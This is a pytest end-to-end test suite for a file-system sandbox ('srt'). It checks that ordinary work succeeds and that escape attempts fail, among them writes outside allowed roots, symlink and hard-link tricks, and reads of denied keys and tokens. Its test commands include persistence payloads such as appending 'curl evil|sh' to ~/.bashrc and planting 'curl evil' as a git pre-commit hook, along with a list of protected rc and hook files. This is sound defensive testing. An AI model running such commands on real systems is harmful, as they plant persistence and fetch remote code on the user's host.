"""File-system policy: legitimate work succeeds, attacks fail with the
specified error, and nothing is left on the host (SPEC §4)."""

import os
import shutil
import signal
import subprocess

import pytest

from conftest import gate_on

from e2e_util import PY, wait_until, read_line

WRITE_WS = {"filesystem": {"allowWrite": ["."]}}
EROFS = "Read-only file system"


REFUSALS = (EROFS, "Permission denied", "Device or resource busy")


def refusals(r):
    """How many of the command's own error lines say a write was refused:
    by a read-only mount (EROFS), a mount point (EBUSY), or the creation
    gate (EACCES: a protected name is refused before any mount is met)."""
    return sum(1 for l in cmd_err(r).splitlines() if any(e in l for e in REFUSALS))


def cmd_err(r):
    """The command's own stderr: srt's exit summary (which names refusals
    too, with their reasons) left out."""
    return "\n".join(l for l in r.stderr.splitlines() if not l.startswith("srt:"))
EACCES = "Permission denied"
EBUSY = "Device or resource busy"

MANDATORY_FILES = [".bashrc", ".bash_profile", ".zshrc", ".zprofile",
                   ".profile", ".gitconfig", ".gitmodules", ".ripgreprc",
                   ".mcp.json"]
MANDATORY_DIRS = [".vscode", ".idea", ".claude/commands", ".claude/agents",
                  ".git/hooks"]


def ls_host(path):
    return sorted(os.listdir(path))


def journals_naming(uid, path):
    """Journals in /tmp/srt-UID that still list something below `path`
    (other runs of the same user may be going on at the same time)."""
    d = "/tmp/srt-%d" % uid
    found = []
    if os.path.isdir(d):
        for e in os.listdir(d):
            if e.endswith(".journal"):
                try:
                    data = open(os.path.join(d, e), "rb").read()
                except OSError:
                    continue
                if str(path).encode() in data:
                    found.append(e)
    return found


# ===================== legitimate use =====================================

def test_write_in_allowed_dir(sb):
    r = sb.run("mkdir -p d/e && echo hello > d/e/f && cat d/e/f && "
               "mv d/e/f d/e/g && rm d/e/g && echo kept > k",
               settings=WRITE_WS)
    assert r.returncode == 0, r
    assert r.stdout == "hello\n"
    assert (sb.ws / "k").read_text() == "kept\n"
    assert not (sb.ws / "d" / "e" / "g").exists()
    # files created inside belong to the caller on the host
    assert os.stat(sb.ws / "k").st_uid == sb.uid


def test_allow_write_absolute_path(sb):
    out = sb.mkdir("out", base=sb.base)
    r = sb.run("echo x > %s/f" % out,
               settings={"filesystem": {"allowWrite": [str(out)]}})
    assert r.returncode == 0, r
    assert (out / "f").read_text() == "x\n"


def test_read_normal_files(sb):
    sb.mkfile("data.txt", "payload\n")
    r = sb.run("cat data.txt /etc/passwd | head -c 100000 | wc -l; "
               "ls /usr/bin | grep -c .")
    assert r.returncode == 0, r
    a, b = r.stdout.split()
    assert int(a) > 1 and int(b) > 10


def test_allow_read_inside_deny_read(sb):
    sb.mkfile("secret/key", "SECRET\n", base=sb.base)
    sb.mkfile("secret/pub/readme", "PUBLIC\n", base=sb.base)
    r = sb.run("cat ../secret/pub/readme; cat ../secret/key",
               settings={"filesystem": {"denyRead": ["../secret"],
                                        "allowRead": ["../secret/pub"]}})
    assert r.stdout == "PUBLIC\n"
    assert "SECRET" not in r.stdout
    assert r.returncode != 0


def test_deny_read_more_specific_than_allow_read_stays_denied(sb):
    sb.mkfile("secret/pub/readme", "PUBLIC\n", base=sb.base)
    sb.mkfile("secret/pub/inner/key", "SECRET\n", base=sb.base)
    r = sb.run("cat ../secret/pub/readme; cat ../secret/pub/inner/key",
               settings={"filesystem": {
                   "denyRead": ["../secret", "../secret/pub/inner"],
                   "allowRead": ["../secret/pub"]}})
    assert r.stdout == "PUBLIC\n"
    assert "SECRET" not in r.stdout


def test_git_init_outside_add_commit_inside(sb):
    genv = {"GIT_AUTHOR_NAME": "E2E", "GIT_AUTHOR_EMAIL": "e2e@example.com",
            "GIT_COMMITTER_NAME": "E2E",
            "GIT_COMMITTER_EMAIL": "e2e@example.com",
            "GIT_CONFIG_NOSYSTEM": "1"}
    sb.host(["git", "init", "-q", "-b", "main", "."])
    sb.mkfile("hello.txt", "hello\n")
    r = sb.run("git add hello.txt && git commit -q -m 'first commit' && "
               "git log --oneline | wc -l && git status --porcelain",
               settings=WRITE_WS, env=genv)
    assert r.returncode == 0, r
    assert r.stdout.split()[0] == "1"
    log = sb.host(["git", "log", "--format=%s"], env=genv)
    assert log.stdout.strip() == "first commit"
    # nothing of the sandbox's stand-ins is left in the repository
    assert ls_host(sb.ws) == [".git", "hello.txt"]


def test_submodule_hooks_and_config_are_protected(sb):
    # A submodule's git directory (.git/modules/<name>) has hooks and a
    # config that git runs on the host just like .git/hooks and .git/config.
    genv = {"GIT_AUTHOR_NAME": "E2E", "GIT_AUTHOR_EMAIL": "e2e@example.com",
            "GIT_COMMITTER_NAME": "E2E", "GIT_COMMITTER_EMAIL": "e2e@example.com",
            "GIT_CONFIG_NOSYSTEM": "1"}
    inner = sb.base / "inner"
    inner.mkdir()
    sb.ident.chown(str(inner))
    sb.host(["git", "init", "-q", "-b", "main", str(inner)])
    sb.host(["git", "-C", str(inner), "commit", "-q", "--allow-empty", "-m", "i"], env=genv)
    sb.host(["git", "init", "-q", "-b", "main", "."])
    sb.host(["git", "-c", "protocol.file.allow=always", "submodule", "add", "-q",
             str(inner), "libs/sub"], env=genv)
    gd = ".git/modules/libs/sub"
    assert (sb.ws / gd / "HEAD").exists()
    r = sb.run("for a in 'echo x > %(g)s/hooks/post-checkout' 'echo x >> %(g)s/config' "
               "'rm -rf %(g)s/hooks' 'mv %(g)s %(g)s.moved' 'mv .git/modules .git/m2'; do "
               "sh -c \"$a\" 2>/dev/null && echo \"WROTE: $a\" || echo refused; done; "
               "git -C libs/sub commit -q --allow-empty -m inside && echo committed"
               % {"g": gd}, settings=WRITE_WS, env=genv)
    assert r.returncode == 0, r
    assert r.stdout.split("\n")[:6] == ["refused"] * 5 + ["committed"], r.stdout
    assert not (sb.ws / gd / "hooks" / "post-checkout").exists()
    assert "x" not in (sb.ws / gd / "config").read_text().split()


def test_python_writes_file(sb):
    r = sb.run([PY, "-c", "open('py.txt','w').write('from python\\n')"],
               settings=WRITE_WS)
    assert r.returncode == 0, r
    assert (sb.ws / "py.txt").read_text() == "from python\n"


def test_cc_compile_and_run(sb):
    if not shutil.which("cc"):
        pytest.skip("no C compiler (cc) installed")
    sb.mkfile("hello.c", '#include <stdio.h>\nint main(void){puts("hello '
              'from c");return 0;}\n')
    r = sb.run("cc -o hello hello.c && ./hello", settings=WRITE_WS,
               timeout=60)
    assert r.returncode == 0, r
    assert r.stdout == "hello from c\n"
    assert (sb.ws / "hello").exists()


def test_subprocess_tree(sb):
    script = ("for i in 1 2 3 4 5; do "
              "(sh -c \"echo child-$i > t$i; (echo grandchild-$i >> t$i)\") & "
              "done; wait; cat t1 t2 t3 t4 t5 | sort")
    r = sb.run(script, settings=WRITE_WS)
    assert r.returncode == 0, r
    assert r.stdout.split() == sorted(
        ["child-%d" % i for i in range(1, 6)]
        + ["grandchild-%d" % i for i in range(1, 6)])


def test_tmpdir_writable_and_removed(sb):
    r = sb.run('echo "$TMPDIR"; test -d "$TMPDIR" && echo data > "$TMPDIR/f" '
               '&& cat "$TMPDIR/f" && mkdir "$TMPDIR/d" && ls "$TMPDIR"')
    assert r.returncode == 0, r
    lines = r.stdout.splitlines()
    tmpdir = lines[0]
    assert lines[1] == "data"
    # TMPDIR lives in the sandbox's own /dev/shm: nothing of it on the host
    assert tmpdir == "/dev/shm/tmp", tmpdir
    assert not os.path.exists(os.path.join(tmpdir, "f"))


def test_dev_nodes_usable(sb):
    r = sb.run("echo x > /dev/null && head -c 4 /dev/zero | wc -c && "
               "echo shm > /dev/shm/f && cat /dev/shm/f")
    assert r.returncode == 0, r
    assert r.stdout.split() == ["4", "shm"]


# ===================== attacks: writes outside =============================

def _write_fails(sb, target, settings=WRITE_WS):
    r = sb.run(["sh", "-c", 'echo pwned > "$1"', "sh", str(target)],
               settings=settings)
    assert r.returncode != 0, r
    assert EROFS in r.stderr, r.stderr
    return r


def test_write_home_refused(sb):
    target = sb.home / "srt-e2e-pwned"
    try:
        _write_fails(sb, target)
        assert not target.exists()
    finally:
        if target.exists():
            target.unlink()


@pytest.mark.parametrize("target", ["/etc/srt-e2e-pwned",
                                    "/usr/bin/srt-e2e-pwned"])
def test_write_system_dirs_refused(sb, target):
    _write_fails(sb, target)
    assert not os.path.exists(target)


def test_write_existing_system_file_refused(sb):
    before = open("/etc/hostname", "rb").read() if os.path.exists(
        "/etc/hostname") else None
    if before is None:
        pytest.skip("no /etc/hostname")
    r = sb.run("echo pwned >> /etc/hostname", settings=WRITE_WS)
    assert r.returncode != 0
    if sb.uid != 0:
        # the host's own permissions already refuse (checked first)
        assert EROFS in r.stderr or EACCES in r.stderr, r.stderr
    else:
        assert EROFS in r.stderr, r.stderr
    assert open("/etc/hostname", "rb").read() == before


def test_write_own_file_outside_roots_refused(sb):
    victim = sb.mkfile("victim", "original\n", base=sb.base)
    r = sb.run(["sh", "-c", 'echo pwned >> "$1"; chmod 777 "$1"; rm -f "$1"',
                "sh", str(victim)], settings=WRITE_WS)
    assert r.returncode != 0
    assert cmd_err(r).count(EROFS) == 3, r.stderr
    assert victim.read_text() == "original\n"
    assert os.stat(victim).st_mode & 0o777 != 0o777


def test_write_parent_of_workspace_refused(sb):
    _write_fails(sb, sb.base / "pwned")
    assert not (sb.base / "pwned").exists()
    r = sb.run("mkdir ../newdir; rm -rf ../ws", settings=WRITE_WS)
    assert r.returncode != 0
    assert EROFS in r.stderr or EBUSY in r.stderr, r.stderr
    assert not (sb.base / "newdir").exists()
    assert sb.ws.is_dir()


def test_host_tmp_not_writable(sb):
    _write_fails(sb, "/tmp/srt-e2e-pwned-%d" % os.getpid())
    assert not os.path.exists("/tmp/srt-e2e-pwned-%d" % os.getpid())


def test_symlink_out_of_writable_root(sb):
    outside = sb.mkdir("outside", base=sb.base)
    os.symlink(str(outside), sb.ws / "link")
    os.lchown(sb.ws / "link", sb.uid, sb.ident.gid)
    os.symlink(str(outside / "file"), sb.ws / "flink")
    os.lchown(sb.ws / "flink", sb.uid, sb.ident.gid)
    r = sb.run("echo pwned > link/f; echo pwned > flink", settings=WRITE_WS)
    assert r.returncode != 0
    assert cmd_err(r).count(EROFS) == 2, r.stderr
    assert ls_host(outside) == []


def test_symlink_planted_inside_cannot_redirect(sb):
    outside = sb.mkdir("outside", base=sb.base)
    r = sb.run("ln -s %s planted && echo pwned > planted/f; "
               "ln -s %s/g plantedf && echo pwned > plantedf" %
               (outside, outside), settings=WRITE_WS)
    assert r.returncode != 0
    assert cmd_err(r).count(EROFS) == 2, r.stderr
    assert ls_host(outside) == []


# ===================== attacks: mandatory denies ============================

@pytest.mark.parametrize("name", MANDATORY_FILES)
def test_missing_mandatory_file_cannot_be_created(sb, name):
    r = sb.run(["sh", "-c", 'echo pwned > "$1"; echo pwned >> "$1"; '
                'rm -f "$1"; mv /dev/null "$1"; grep -q pwned "$1" && echo WROTE; '
                'exit 0', "sh", name], settings=WRITE_WS)
    assert "WROTE" not in r.stdout
    assert refusals(r), r.stderr
    assert not os.path.lexists(sb.ws / name), "stand-in %s left on host" % name
    assert ls_host(sb.ws) == []


@pytest.mark.parametrize("name", MANDATORY_DIRS + [".git/config"])
def test_missing_mandatory_dir_cannot_be_created(sb, name):
    if name == ".git/config":
        script = ('mkdir -p .git; echo "[core]" > .git/config; '
                  'cat .git/config; test -s .git/config')
    else:
        script = ('mkdir -p "$1"; echo pwned > "$1/evil"; cat "$1/evil"; '
                  'rmdir "$1"; mkdir "$1/sub"')
    r = sb.run(["sh", "-c", script, "sh", name], settings=WRITE_WS)
    top = name.split("/")[0]
    if top == ".git" and gate_on(sb):
        # the creation gate: the command's own .git may stay (git init works
        # in the tree), but nothing in it that git runs or obeys
        assert "[core]" not in r.stdout
        assert not os.path.lexists(sb.ws / ".git/config")
        assert not os.path.lexists(sb.ws / ".git/hooks/evil")
        return
    if top == ".git":
        # no repository here: the sandbox's .git is a private directory
        # (test_git_fresh.py), so this succeeds inside, and what is not a
        # valid repository is discarded at exit
        assert not os.path.lexists(sb.ws / top), "%s left on host" % top
        assert ls_host(sb.ws) == []
        return
    assert "pwned" not in r.stdout and "[core]" not in r.stdout
    assert r.returncode != 0
    assert refusals(r), r.stderr
    assert not os.path.lexists(sb.ws / name), "%s left on host" % name
    if gate_on(sb) and "/" in name:
        # the gate refuses the name itself; its parent (.claude) is the
        # command's own empty directory
        assert ls_host(sb.ws) in ([], [top]), ls_host(sb.ws)
        return
    assert not os.path.lexists(sb.ws / top), "stand-in %s left on host" % top
    assert ls_host(sb.ws) == []


def test_mandatory_denies_even_when_listed_in_allow_write(sb):
    # an existing repository (a fresh directory's .git is the command's own
    # until exit, test_git_fresh.py)
    sb.host(["git", "init", "-q", "."])
    sb.mkfile(".bashrc", "original\n")
    r = sb.run("echo pwned >> .bashrc; echo pwned > .git/hooks/pre-commit",
               settings={"filesystem": {"allowWrite": [
                   ".", "./.bashrc", "./.git/hooks", "./.git"]}})
    assert r.returncode != 0
    assert refusals(r) == 2, r.stderr
    assert (sb.ws / ".bashrc").read_text() == "original\n"
    assert not (sb.ws / ".git" / "hooks" / "pre-commit").exists()


def test_existing_protected_files_cannot_be_modified(sb):
    sb.host(["git", "init", "-q", "."])
    sb.mkfile(".bashrc", "original\n")
    cfg = (sb.ws / ".git" / "config").read_text()
    hooks = ls_host(sb.ws / ".git" / "hooks")
    script = ("echo pwned >> .bashrc; "
              "echo pwned > .bashrc; "
              "rm -f .bashrc; "
              "mv .bashrc x; "
              "echo '[core] hooksPath=/tmp' >> .git/config; "
              "rm -f .git/config; "
              "echo 'curl evil' > .git/hooks/pre-commit; "
              "chmod +x .git/hooks/pre-commit; "
              "rm -rf .git/hooks; "
              "mv .git/hooks .git/h2; "
              "sed -i s/a/b/ .git/config; "
              "exit 0")
    r = sb.run(script, settings=WRITE_WS)
    assert refusals(r), r.stderr
    assert (sb.ws / ".bashrc").read_text() == "original\n"
    assert (sb.ws / ".git" / "config").read_text() == cfg
    assert ls_host(sb.ws / ".git" / "hooks") == hooks
    assert not (sb.ws / "x").exists()
    assert not (sb.ws / ".git" / "h2").exists()


def test_nested_mandatory_file_is_protected(sb):
    sb.mkfile("a/b/.bashrc", "original\n")
    sb.host(["git", "init", "-q", "proj"])
    r = sb.run("echo pwned >> a/b/.bashrc; "
               "echo pwned > proj/.git/hooks/post-checkout; "
               "echo pwned >> proj/.git/config",
               settings=WRITE_WS)
    assert refusals(r) == 3, r.stderr
    assert (sb.ws / "a/b/.bashrc").read_text() == "original\n"
    assert not (sb.ws / "proj/.git/hooks/post-checkout").exists()
    assert "pwned" not in (sb.ws / "proj/.git/config").read_text()


@pytest.mark.parametrize("existing", [True, False], ids=["repo", "no-repo"])
def test_rename_git_then_recreate_hooks(sb, existing):
    if existing:
        sb.host(["git", "init", "-q", "."])
    r = sb.run("mv .git .g; echo \"mv=$?\"; "
               "mkdir -p .git/hooks; echo 'evil' > .git/hooks/pre-commit; "
               "echo \"hook=$?\"", settings=WRITE_WS)
    assert "mv=0" not in r.stdout
    # a pinned .git (EBUSY); with the creation gate and no repository there
    # is no .git to move, and the hook is refused where it is made
    assert EBUSY in r.stderr or (gate_on(sb) and not existing), r.stderr
    # without a repository and without the gate, .git is the sandbox's
    # private directory: the hook is written there, and discarded with it
    assert "hook=0" not in r.stdout or (not existing and not gate_on(sb))
    assert not os.path.exists(sb.ws / ".g")
    assert not os.path.exists(sb.ws / ".git" / "hooks" / "pre-commit")
    if existing:
        assert (sb.ws / ".git" / "config").exists()
    elif gate_on(sb):
        assert ls_host(sb.ws) in ([], [".git"]), ls_host(sb.ws)  # its own empty .git
    else:
        assert ls_host(sb.ws) == []


def test_rename_parent_of_protected_dir(sb):
    sb.mkdir(".claude/commands")
    r = sb.run("mv .claude .c2; echo \"mv=$?\"; rmdir .claude/commands; "
               "mkdir -p .claude/commands; echo evil > .claude/commands/x.md",
               settings=WRITE_WS)
    assert "mv=0" not in r.stdout
    assert EBUSY in r.stderr, r.stderr
    assert not (sb.ws / ".c2").exists()
    assert not (sb.ws / ".claude/commands/x.md").exists()


def test_hard_link_protected_file(sb):
    sb.host(["git", "init", "-q", "."])
    sb.mkfile(".bashrc", "original\n")
    cfg = (sb.ws / ".git" / "config").read_text()
    r = sb.run([PY, "-c", r"""
import errno, os
for src, dst in ((".git/config", "cfg-link"), (".bashrc", "rc-link")):
    try:
        os.link(src, dst)
        print("LINKED", src)
        with open(dst, "a") as f:
            f.write("pwned\n")
    except OSError as e:
        print(src, errno.errorcode[e.errno])
"""], settings=WRITE_WS)
    assert "LINKED" not in r.stdout, r
    for line in r.stdout.splitlines():
        # EACCES: the creation gate refuses a second name of a protected file
        assert line.split()[1] in ("EXDEV", "EPERM", "EACCES"), line
    assert (sb.ws / ".git" / "config").read_text() == cfg
    assert (sb.ws / ".bashrc").read_text() == "original\n"


def test_hard_link_from_outside_into_writable_root(sb):
    """A hard link into the workspace must not make a read-only file
    (outside the roots) writable."""
    victim = sb.mkfile("victim", "original\n", base=sb.base)
    r = sb.run(["sh", "-c", 'ln "$1" v && echo pwned >> v', "sh",
                str(victim)], settings=WRITE_WS)
    assert r.returncode != 0
    assert victim.read_text() == "original\n"


# ===================== attacks: reads ======================================

@pytest.fixture
def denied(sb):
    """A denied directory and a denied file next to the workspace."""
    sb.mkfile("secret/id_rsa", "PRIVATE-KEY\n", base=sb.base)
    sb.mkfile("secret/sub/deeper", "DEEP\n", base=sb.base)
    sb.mkfile("token", "TOKEN\n", base=sb.base)
    settings = {"filesystem": {"allowWrite": ["."],
                               "denyRead": ["../secret", "../token"]}}
    return settings


@pytest.mark.parametrize("how", ["direct", "symlink", "proc_root", "dotdot",
                                 "fd_dir"])
def test_read_denied_file(sb, denied, how):
    base = str(sb.base)
    if how == "symlink":
        os.symlink(base + "/token", sb.ws / "tlink")
        os.lchown(sb.ws / "tlink", sb.uid, sb.ident.gid)
        path = "tlink"
    elif how == "proc_root":
        path = "/proc/self/root" + base + "/token"
    elif how == "dotdot":
        path = base + "/ws/../ws/./../token"
    elif how == "fd_dir":
        path = "/dev/fd/3/token"
    else:
        path = base + "/token"
    cmd = 'cat "$1"' if how != "fd_dir" else 'exec 3<"$2"; cat "$1"'
    r = sb.run(["sh", "-c", cmd, "sh", path, base], settings=denied)
    assert r.returncode != 0
    assert "TOKEN" not in r.stdout
    assert EACCES in r.stderr, r.stderr


def test_symlink_created_inside_to_denied_file(sb, denied):
    r = sb.run("ln -s ../token t && cat t", settings=denied)
    assert "TOKEN" not in r.stdout
    assert EACCES in r.stderr, r.stderr


def test_denied_directory_looks_empty(sb, denied):
    r = sb.run("ls -A ../secret | wc -l; cat ../secret/id_rsa; "
               "cat ../secret/sub/deeper; find ../secret | wc -l",
               settings=denied)
    assert "PRIVATE-KEY" not in r.stdout and "DEEP" not in r.stdout
    lines = r.stdout.split()
    assert lines[0] == "0"
    assert lines[-1] == "1"  # find lists only the directory itself


def test_denied_directory_cannot_be_written(sb):
    sb.mkfile("secrets/k", "K\n")
    r = sb.run("echo x > secrets/new; mkdir secrets/d; rm -rf secrets",
               settings={"filesystem": {"allowWrite": ["."],
                                        "denyRead": ["secrets"]}})
    assert r.returncode != 0
    assert refusals(r), r.stderr
    assert ls_host(sb.ws / "secrets") == ["k"]


def test_deny_read_under_home_tilde(sb):
    d = sb.mkdir("srt-e2e-ssh", base=sb.home)
    try:
        sb.mkfile("srt-e2e-ssh/id_ed25519", "KEY\n", base=sb.home)
        r = sb.run('cat "$HOME/srt-e2e-ssh/id_ed25519"; ls -A "$HOME/srt-e2e-ssh"',
                   settings={"filesystem": {"denyRead": ["~/srt-e2e-ssh"]}})
        assert "KEY" not in r.stdout and "id_ed25519" not in r.stdout
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_deny_read_glob(sb):
    sb.mkfile("certs/a/server.pem", "PEM-A\n")
    sb.mkfile("certs/b/c/client.pem", "PEM-B\n")
    sb.mkfile("top.pem", "PEM-TOP\n")
    sb.mkfile("certs/a/server.crt", "CRT\n")
    r = sb.run("cat certs/a/server.pem; cat certs/b/c/client.pem; "
               "cat top.pem; cat certs/a/server.crt",
               settings={"filesystem": {"allowWrite": ["."],
                                        "denyRead": ["**/*.pem"]}})
    assert "PEM" not in r.stdout, r.stdout
    assert r.stdout == "CRT\n"
    assert r.stderr.count(EACCES) == 3, r.stderr


# ===================== denyWrite ===========================================

def test_deny_write_same_path_as_allow_write(sb):
    sb.mkdir("sub")
    r = sb.run("echo x > sub/f",
               settings={"filesystem": {"allowWrite": ["./sub"],
                                        "denyWrite": ["./sub"]}})
    assert r.returncode != 0
    assert refusals(r), r.stderr
    assert ls_host(sb.ws / "sub") == []


def test_deny_write_above_allow_write(sb):
    sb.mkdir("a/b")
    r = sb.run("echo x > a/b/f; echo x > a/g",
               settings={"filesystem": {"allowWrite": ["./a/b"],
                                        "denyWrite": ["./a"]}})
    assert r.returncode != 0
    assert refusals(r) == 2, r.stderr
    assert ls_host(sb.ws / "a/b") == [] and ls_host(sb.ws / "a") == ["b"]


def test_deny_write_below_allow_write(sb):
    sb.mkdir("ro")
    sb.mkfile(".env", "SECRET=1\n")
    r = sb.run("echo ok > ok; echo x > ro/f; echo x >> .env",
               settings={"filesystem": {"allowWrite": ["."],
                                        "denyWrite": ["./ro", ".env"]}})
    assert refusals(r) == 2, r.stderr
    assert (sb.ws / "ok").read_text() == "ok\n"
    assert ls_host(sb.ws / "ro") == []
    assert (sb.ws / ".env").read_text() == "SECRET=1\n"


def test_deny_write_glob(sb):
    sb.mkfile("a.lock", "L\n")
    sb.mkfile("sub/b.lock", "L\n")
    r = sb.run("echo x >> a.lock; echo x >> sub/b.lock; echo ok > c",
               settings={"filesystem": {"allowWrite": ["."],
                                        "denyWrite": ["**/*.lock"]}})
    assert refusals(r) == 2, r.stderr
    assert (sb.ws / "a.lock").read_text() == "L\n"
    assert (sb.ws / "sub/b.lock").read_text() == "L\n"
    assert (sb.ws / "c").read_text() == "ok\n"


# ===================== host leftovers ======================================

@pytest.mark.usefixtures("standins")
def test_no_leftovers_after_run(sb):
    before = ls_host(sb.ws)
    r = sb.run('echo "$TMPDIR"; ls -A', settings=WRITE_WS)
    assert r.returncode == 0, r
    # stand-ins were visible inside (mandatory files at the root)
    assert ".bashrc" in r.stdout.split()
    assert ls_host(sb.ws) == before == []
    assert journals_naming(sb.uid, sb.ws) == []


@pytest.mark.usefixtures("standins")
def test_leftovers_of_killed_run_removed_by_next_run(sb):
    p = sb.popen('echo "$TMPDIR"; exec sleep 300', settings=WRITE_WS)
    line = read_line(p).decode().strip()
    assert line == "/dev/shm/tmp", line
    # while it runs, stand-ins exist on the host, listed in its journal
    assert wait_until(lambda: os.path.exists(sb.ws / ".bashrc"), 5)
    assert len(journals_naming(sb.uid, sb.ws)) == 1
    os.kill(p.pid, signal.SIGKILL)
    p.wait(timeout=10)
    # the next ordinary run (any directory) recognises and removes them
    other = sb.mkdir("elsewhere", base=sb.base)
    r = sb.run(["true"], cwd=other)
    assert r.returncode == 0, r
    assert ls_host(sb.ws) == [], "stand-ins of the killed run left behind"
    assert journals_naming(sb.uid, sb.ws) == [], "journal of the killed run left behind"
    if sb.ident.name == "user":
        # nobody else runs srt as this user: the directory must be clean
        d = "/tmp/srt-%d" % sb.uid
        if os.path.isdir(d):
            assert [e for e in os.listdir(d) if e.endswith(".journal")] == []


# ===================== more path rules =====================================

def test_literal_path_entry_is_not_a_glob(sb):
    sb.mkfile("a*b", "LITERAL\n")
    sb.mkfile("axb", "OTHER\n")
    r = sb.run('cat "a*b"; cat axb',
               settings={"filesystem": {"denyRead": [
                   {"path": "a*b", "literal": True}]}})
    assert r.stdout == "OTHER\n"
    assert EACCES in r.stderr, r.stderr


def test_allow_write_glob(sb):
    sb.mkdir("out1")
    sb.mkdir("out2")
    sb.mkdir("other")
    r = sb.run("echo a > out1/f; echo b > out2/f; echo c > other/f",
               settings={"filesystem": {"allowWrite": ["out*"]}})
    assert refusals(r) == 1, r.stderr
    assert (sb.ws / "out1/f").exists() and (sb.ws / "out2/f").exists()
    assert not (sb.ws / "other/f").exists()


def test_glob_matching_nothing_is_reported(sb):
    r = sb.run(["true"], settings={"filesystem": {
        "denyRead": ["**/*.srt-e2e-nomatch"]}})
    assert r.returncode == 0, r
    assert "srt: " in r.stderr and "srt-e2e-nomatch" in r.stderr, r.stderr


def test_rules_follow_symlinks_to_the_real_path(sb):
    real = sb.mkdir("real", base=sb.base)
    sb.mkfile("real/secret", "SECRET\n", base=sb.base)
    os.symlink(str(real), sb.ws / "rl")
    os.lchown(sb.ws / "rl", sb.uid, sb.ident.gid)
    # allowWrite through a symlink grants the target
    r = sb.run("echo w > rl/f && echo w2 > ../real/g",
               settings={"filesystem": {"allowWrite": ["./rl"]}})
    assert r.returncode == 0, r
    assert (real / "f").exists() and (real / "g").exists()
    # denyRead through a symlink hides the target under every name
    r = sb.run("cat ../real/secret; cat rl/secret; ls -A ../real",
               settings={"filesystem": {"denyRead": ["./rl"]}})
    assert "SECRET" not in r.stdout and "secret" not in r.stdout, r


def test_mandatory_deny_in_home_when_home_writable(sb):
    existed = (sb.home / ".bashrc").exists()
    if not existed:
        sb.mkfile(".bashrc", "original\n", base=sb.home)
    before = (sb.home / ".bashrc").read_text()
    home_entries = ls_host(sb.home)
    created = []
    try:
        r = sb.run('echo "curl evil|sh" >> ~/.bashrc; '
                   'echo pwned > ~/.zshrc; echo pwned > ~/.profile; '
                   'mkdir -p ~/.claude/commands && echo x > ~/.claude/commands/x.md; '
                   'echo ok > ~/srt-e2e-ok',
                   settings={"filesystem": {"allowWrite": ["~"]}})
        created.append(sb.home / "srt-e2e-ok")
        assert (sb.home / "srt-e2e-ok").read_text() == "ok\n", r
        assert refusals(r) >= 4, r.stderr
        assert (sb.home / ".bashrc").read_text() == before
        assert not (sb.home / ".claude/commands/x.md").exists()
        # no stand-in stays behind in the home directory
        # with the creation gate the command's own empty .claude may stay
        # (its commands/ is refused)
        left = [e for e in ls_host(sb.home)
                if not (gate_on(sb) and e == ".claude" and e not in home_entries)]
        assert left == sorted(home_entries + ["srt-e2e-ok"])
    finally:
        for p in created:
            if p.exists():
                p.unlink()
        if not existed:
            (sb.home / ".bashrc").unlink()


def test_mandatory_deny_search_depth_10(sb):
    deep = "a/b/c/d/e/f/g/h"
    sb.mkfile(deep + "/.bashrc", "original\n")
    r = sb.run("echo pwned >> %s/.bashrc; mv a z" % deep,
               settings={"filesystem": {"allowWrite": ["."]},
                         "mandatoryDenySearchDepth": 10})
    assert (EROFS in r.stderr or "Permission denied" in r.stderr) and EBUSY in r.stderr, r.stderr
    assert (sb.ws / deep / ".bashrc").read_text() == "original\n"


def test_private_dev_shm(sb):
    name = "srt-e2e-shm-%d" % os.getpid()
    r = sb.run("echo x > /dev/shm/%s && ls /dev/shm" % name)
    assert r.returncode == 0, r
    assert not os.path.exists("/dev/shm/" + name)


# ----- denyWrite must not be defeated by renaming or by missing parents -----

def test_deny_write_nested_file_rename_parent(sb):
    """SPEC §4: renaming around a protected path must not defeat it."""
    sb.mkfile("conf/.env", "SECRET=1\n")
    r = sb.run("mv conf conf2; mkdir -p conf; echo 'SECRET=pwned' > conf/.env",
               settings={"filesystem": {"allowWrite": ["."],
                                        "denyWrite": ["./conf/.env"]}})
    env = sb.ws / "conf" / ".env"
    assert env.exists() and env.read_text() == "SECRET=1\n", \
        "denyWrite ./conf/.env defeated by renaming its parent: %r %r" % (
            env.read_text() if env.exists() else None, r)
    assert not (sb.ws / "conf2").exists()


def test_deny_write_missing_nested_path_cannot_be_created(sb):
    """A denyWrite path whose parent does not exist yet must not become
    writable by creating the parent (the plan promises a stand-in)."""
    r = sb.run("mkdir -p conf && echo pwned > conf/.env",
               settings={"filesystem": {"allowWrite": ["."],
                                        "denyWrite": ["./conf/.env"]}})
    env = sb.ws / "conf" / ".env"
    assert not (env.exists() and env.read_text() == "pwned\n"), \
        "denyWrite ./conf/.env (parent missing at start) was created: %r" % (r,)


def test_deny_write_missing_path_at_root_cannot_be_created(sb):
    r = sb.run("echo pwned > .env",
               settings={"filesystem": {"allowWrite": ["."],
                                        "denyWrite": ["./.env"]}})
    assert refusals(r), r.stderr
    assert ls_host(sb.ws) == []


# ----- stand-ins: safety and concurrency ----------------------------------

@pytest.mark.usefixtures("standins")
def test_cleanup_never_removes_user_content(sb):
    """A stand-in the user filled in on the host during the run (or after a
    crash) is user data and must survive srt's clean-up."""
    p = sb.popen("echo ready; read x", settings=WRITE_WS,
                 stdin=subprocess.PIPE)
    assert read_line(p) == b"ready\n"
    assert (sb.ws / ".bashrc").exists()
    with open(sb.ws / ".bashrc", "a") as f:       # same inode, now non-empty
        f.write("user content\n")
    os.unlink(sb.ws / ".zshrc")                   # replaced by a new file
    sb.mkfile(".zshrc", "my zshrc\n")
    sb.mkfile(".vscode/settings.json", "{}\n")    # stand-in dir filled in
    p.communicate(b"go\n", timeout=20)
    assert p.returncode == 0
    assert (sb.ws / ".bashrc").read_text() == "user content\n"
    assert (sb.ws / ".zshrc").read_text() == "my zshrc\n"
    assert (sb.ws / ".vscode/settings.json").read_text() == "{}\n"
    assert not (sb.ws / ".profile").exists()      # untouched ones are gone


@pytest.mark.usefixtures("standins")
def test_crash_recovery_never_removes_user_content(sb):
    p = sb.popen("echo ready; exec sleep 300", settings=WRITE_WS)
    assert read_line(p) == b"ready\n"
    os.kill(p.pid, signal.SIGKILL)
    p.wait(timeout=10)
    with open(sb.ws / ".bashrc", "a") as f:
        f.write("user content\n")
    shutil.rmtree(sb.ws / ".idea")
    sb.mkfile(".idea/workspace.xml", "<x/>\n")
    r = sb.run(["true"], cwd=sb.base)
    assert r.returncode == 0, r
    assert (sb.ws / ".bashrc").read_text() == "user content\n"
    assert (sb.ws / ".idea/workspace.xml").read_text() == "<x/>\n"
    assert not (sb.ws / ".profile").exists()


